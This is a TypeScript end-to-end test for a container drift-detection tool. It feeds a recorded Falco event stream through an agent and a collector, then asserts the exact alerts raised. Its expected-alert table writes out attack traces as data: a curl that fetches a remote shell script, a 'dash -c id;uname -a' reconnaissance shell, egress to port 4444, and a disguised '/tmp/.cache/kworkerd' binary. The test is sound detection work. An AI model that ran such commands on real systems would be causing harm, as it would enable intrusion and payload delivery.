/**
 * End to end, as ops would run it: a collector process and an agent process over loopback gRPC,
 * the agent following the recorded Falco stream (written in two parts, so it follows appends),
 * and the exact alerts checked through the collector's HTTP API.
 */
import test from 'ava';
import { appendFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DEMO_EVENTS } from '../../cli/demo.js';
import { eventually, getJson, spawnCli, spawnCollector } from '../helpers/processes.js';

interface AlertJson {
  image: string;
  kind: string;
  summary: string;
  count: number;
  pods: string[];
  nodes: string[];
  reason: string;
  firstSeen: string;
  lastSeen: string;
}

// What the recorded stream must raise with a 1h learning window. The six injected anomalies of
// fixtures/falco-stream.ts DEMO_ANOMALIES, plus two things that are new after the first hour: an
// operator's interactive psql session in postgres (three processes), and an hourly host job whose
// first run falls just after the window.
const EXPECTED: [string, string, string, number][] = [
  ['@host', 'exec', '/usr/sbin/logrotate /etc/logrotate.conf (parent systemd, root)', 4],
  ['docker.io/library/nginx', 'connect', 'egress tcp 203.0.113.50:80', 1],
  ['docker.io/library/nginx', 'exec', '/usr/bin/curl -s http://<ip>/x.sh (parent dash, system)', 1],
  ['docker.io/library/nginx', 'exec', '/usr/bin/dash -c id;uname -a (parent nginx, system)', 3],
  ['docker.io/library/postgres', 'exec', '/usr/bin/bash (parent runc, root)', 1],
  ['docker.io/library/postgres', 'exec', '/usr/bin/perl /usr/bin/psql -U postgres shop (parent bash, root)', 1],
  ['docker.io/library/postgres', 'exec', '/usr/lib/postgresql/16/bin/psql -U postgres shop (parent bash, root)', 1],
  ['docker.io/library/redis', 'listen', 'listen tcp any:16379', 1],
  ['ghcr.io/acme/checkout-api', 'connect', 'egress tcp 198.51.100.23:4444', 1],
  ['ghcr.io/acme/checkout-api', 'exec', '/tmp/.cache/kworkerd (parent node, user)', 1],
];

test('the recorded stream raises exactly the expected alerts', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'dw-e2e-'));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  const lines = readFileSync(DEMO_EVENTS, 'utf8').split('\n').filter((l) => l !== '');
  const events = join(dir, 'falco.json');
  const half = Math.floor(lines.length / 2);
  writeFileSync(events, `${lines.slice(0, half).join('\n')}\n`);

  const collector = await spawnCollector(t, join(dir, 'collector.db'));
  const agent = spawnCli(t, [
    'agent', '--source', `falco-file:${events}`, '--collector', `127.0.0.1:${collector.grpcPort}`,
    '--node', 'demo-node-1', '--state-dir', join(dir, 'agent'), '--learning-window', '1h', '--http-listen', '127.0.0.1:0',
  ]);
  const started = await agent.waitForLog((l) => l.msg === 'agent started');
  await new Promise((r) => setTimeout(r, 300));
  appendFileSync(events, `${lines.slice(half).join('\n')}\n`);

  const total = EXPECTED.reduce((n, e) => n + e[3], 0);
  const alerts = await eventually(async () => {
    const page = await getJson<{ items: AlertJson[] }>(`${collector.url}/api/v1/alerts`);
    return page.items.reduce((n, a) => n + a.count, 0) >= total ? page.items : undefined;
  }, 30_000, `${total} deviations`);

  t.deepEqual(alerts.map((a) => [a.image, a.kind, a.summary, a.count]).sort(), EXPECTED);
  const shell = alerts.find((a) => a.summary.startsWith('/usr/bin/dash -c id'))!;
  t.is(shell.pods.length, 2, 'the shell alert names both nginx pods it ran in');
  t.deepEqual(shell.nodes, ['demo-node-1']);
  t.is(shell.reason, 'new-parent');
  t.is(shell.firstSeen, '2026-11-23T10:30:00.000Z');

  // Every line was read, none rejected, and the agent's view matches the collector's.
  const metrics = await (await fetch(`http://${started.http as string}/metrics`)).text();
  const read = [...metrics.matchAll(/^driftwatch_agent_events_total\{[^}]*\} (\d+)/gm)].reduce((n, m) => n + Number(m[1]), 0);
  t.is(read, lines.length);
  t.false(/^driftwatch_agent_events_rejected_total/m.test(metrics.replace(/^#.*$/gm, '')), 'no record was rejected');
  t.regex(metrics, new RegExp(`^driftwatch_agent_events_observed_total\\{source="[^"]*",verdict="deviation"\\} ${total}$`, 'm'));

  // The baselines are visible, keyed by repository, percent-encoded in the URL.
  // Snapshots of changed baselines are flushed once a second.
  const baselines = await eventually(async () => {
    const b = await getJson<{ items: { key: string; state: string }[] }>(`${collector.url}/api/v1/baselines`);
    return b.items.length === 6 && b.items.every((x) => x.state === 'enforcing') ? b : undefined;
  }, 10_000, 'six enforcing baselines');
  t.deepEqual(baselines.items.map((b) => b.key).sort(), ['@host', 'docker.io/library/nginx', 'docker.io/library/postgres', 'docker.io/library/redis', 'ghcr.io/acme/checkout-api', 'registry.k8s.io/coredns/coredns']);
  t.true(baselines.items.every((b) => b.state === 'enforcing'));
  const nginx = await getJson<{ entries: { summary: string }[] }>(`${collector.url}/api/v1/baselines/${encodeURIComponent('docker.io/library/nginx')}`);
  t.true(nginx.entries.some((e) => e.summary === 'listen tcp any:80'));

  // One JSON log line per new alert.
  t.is(collector.logs.filter((l) => l.msg === 'new alert').length, EXPECTED.length);

  t.is(await agent.stop(), 0);
  t.is(await collector.stop(), 0);
});
